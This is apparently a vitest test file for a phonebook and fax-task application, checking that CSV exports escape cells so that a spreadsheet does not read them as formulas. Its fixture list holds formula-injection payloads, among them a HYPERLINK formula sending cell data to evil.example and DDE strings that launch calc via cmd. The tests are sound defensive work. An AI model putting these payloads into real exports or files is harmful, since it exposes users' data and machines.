/**
 * CSV exports against formula injection, read the way a spreadsheet whose
 * list separator is `;` (or that splits on tabs or commas) reads them: every
 * part of every line, split on that separator, must not start a formula. The
 * phonebook export and the task CSV share one escaping function, with a
 * table of its cases, and the phonebook reads its own export back unchanged.
 */
import { describe, expect, it } from 'vitest';
import { contactsToCsv } from '@main/phonebook/csv';
import { taskCsv } from '@main/report/csv';
import { escapeCsvCell, unescapeCsvCell } from '@main/storage/csv-cell';
import type { Contact } from '@shared/phonebook/types';
import type { TaskDetailView } from '@shared/tasks/types';

const HOSTILE = [
  'Hans;=HYPERLINK("http://evil.example/?"&A1,"click")',
  'ACME;@SUM(1)',
  'x,+cmd|" /C calc"!A0',
  'tab\t-2+3',
  'Müller; =1+1',
  '=direct',
  "BUSY;=cmd|' /C calc'!A0",
  'line\r=1',
];

/** The parts a spreadsheet splitting on `sep` would make cells of, without the quotes CSV put around them. */
function partsSplitOn(csv: string, sep: string): string[] {
  return csv
    .replace(/^\ufeff/, '')
    .split(/\r\n/)
    .flatMap((line) => line.split(sep))
    .map((p) => p.replace(/^[ "]+/, ''));
}

const startsFormula = (part: string) => /^[=+\-@\t\r]/.test(part);

describe('one escaping function for every CSV export', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['=1+1', "'=1+1"],
    ['+x', "'+x"],
    ['-y', "'-y"],
    ['@z', "'@z"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=q", "''=q"],
    ['Hans;=HYPERLINK(1)', "Hans;'=HYPERLINK(1)"],
    ['ACME;@SUM(1)', "ACME;'@SUM(1)"],
    ['a,+b', "a,'+b"],
    ['a\t-b', "a\t'-b"],
    ['a; =b', "a; '=b"],
    ['Zhang-Wei', 'Zhang-Wei'],
    ['a - b; c + d', 'a - b; c + d'],
    ['3-5 pages', '3-5 pages'],
  ])('%j is written %j and read back as it was', (value, escaped) => {
    expect(escapeCsvCell(value)).toBe(escaped);
    expect(unescapeCsvCell(escapeCsvCell(value))).toBe(value);
  });

  it('a phonebook export opened by splitting on ; , or tab has no cell that starts a formula', () => {
    const contacts: Contact[] = HOSTILE.map((name, i) => ({
      id: `c${i}`,
      name,
      fax: '861088881234',
      company: HOSTILE[(i + 1) % HOSTILE.length]!,
      note: HOSTILE[(i + 2) % HOSTILE.length]!,
      groupIds: [],
      updatedAt: 0,
    }));
    const csv = contactsToCsv(contacts);
    for (const sep of [';', ',', '\t']) {
      expect(partsSplitOn(csv, sep).filter(startsFormula), `split on ${JSON.stringify(sep)}`).toEqual([]);
    }
  });

  it('a task CSV with names and reasons from the service, opened by splitting on ;, has no cell that starts a formula', () => {
    const detail = {
      task: { id: 't1', taskRef: 'T;=1', name: HOSTILE[0]!, status: 'failed' },
      recipients: HOSTILE.map((reason, i) => ({
        rcptRef: `r${i}`,
        phoneNumber: '8613800138000',
        status: 'failed',
        pageCount: 1,
        unitPrice: 0.1,
        chargedAmount: 0,
        failedCode: 'X;@Y',
        failedReason: reason,
        completedAt: null,
        completedAtMs: null,
        createdAt: null,
        createdAtMs: null,
        retryable: false,
      })),
    } as unknown as TaskDetailView;
    const csv = taskCsv(detail);
    for (const sep of [';', ',', '\t']) {
      expect(partsSplitOn(csv, sep).filter(startsFormula), `split on ${JSON.stringify(sep)}`).toEqual([]);
    }
    // The text is all still there, behind its guard.
    expect(csv).toContain("BUSY;'=cmd|' /C calc'!A0");
  });
});
